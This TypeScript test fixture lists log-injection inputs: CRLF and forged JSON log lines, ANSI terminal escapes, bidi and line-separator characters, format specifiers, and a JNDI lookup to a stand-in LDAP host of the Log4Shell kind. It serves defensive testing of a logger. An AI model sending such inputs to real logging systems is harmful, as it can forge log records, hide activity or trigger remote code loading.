/** What somebody sends to write a line of their own into a log, or to hide one. Each stands in no line, and breaks none. */
export const logLines: readonly { readonly name: string; readonly text: string }[] = [
  { name: 'a line of its own', text: 'a\r\nfake: line' },
  { name: 'a line of its own, as ours are', text: '\n{"level":50,"msg":"fake"}' },
  { name: 'colours of a terminal', text: '\u001b[2Jcanary' },
  { name: 'a title of a terminal', text: '\u001b]0;canary\u0007' },
  { name: 'a line to JavaScript', text: '\u2028canary' },
  { name: 'what turns letters around', text: '\u202ecanary' },
  { name: 'a backspace', text: 'x\b\b\bcanary' },
  { name: 'NUL', text: '\u0000canary' },
  { name: 'a field of ours', text: '{"level":60}' },
  { name: 'what a logger fills in', text: '%s%j%o canary' },
  { name: 'what another logger looks up', text: `\${jndi:ldap://canary.example/x}` },
  { name: 'a long one', text: 'canary'.repeat(200) }
]
